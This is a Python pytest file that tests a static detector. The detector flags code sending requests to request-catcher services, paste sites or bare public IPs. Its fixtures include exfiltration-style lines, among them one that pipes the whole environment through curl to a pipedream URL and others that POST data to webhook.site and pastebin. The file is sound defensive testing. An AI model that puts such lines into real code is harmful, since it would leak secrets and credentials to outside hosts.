"""Code that calls a request catcher, a paste site or a bare public IP."""

from __future__ import annotations

import pytest

from scorers.static_judge.collector_hosts import RULE_ID, collector_requests


@pytest.mark.parametrize(
    ("path", "code", "line"),
    [
        ("index.js", "fetch('https://webhook.site/1b2c', { method: 'POST', body: d });", 1),
        ("a.py", "import urllib.request\nurllib.request.urlopen('http://5.6.7.9/b')", 2),
        ("a.sh", 'HOOK="https://x1.m.pipedream.net"\nenv | curl -d @- "$HOOK"', 1),
        (
            "a.mjs",
            "const DROP = 'https://pastebin.com/api/api_post.php';\nawait fetch(DROP, o);",
            1,
        ),
    ],
)
def test_a_call_to_a_collector_is_found_where_the_url_is_written(
    path: str, code: str, line: int
) -> None:
    assert [(f.rule_id, f.line) for f in collector_requests(path, code)] == [(RULE_ID, line)]


@pytest.mark.parametrize(
    ("path", "code"),
    [
        ("a.py", "HOSTS = ['webhook.site', 'http://203.0.113.9/']\nprint(HOSTS)"),
        ("a.py", "# example: requests.post('https://webhook.site/x')\nrun()"),
        ("a.py", "requests.get('http://100.101.7.3:8080/health')"),
        ("a.js", "fetch('https://remote.mcp.pipedream.net', opts)"),
        ("tests/test_rules.py", "requests.post('https://webhook.site/x', data=d)"),
        ("a.py", "requests.post('https://203.0.113.9/usage', data=b)"),
        ("src/scan.test.ts", "expect(scan(\"fetch('http://198.51.100.2/x')\")).toBe(true)"),
    ],
)
def test_lists_comments_unroutable_addresses_platforms_and_test_files_are_not(
    path: str, code: str
) -> None:
    assert collector_requests(path, code) == []
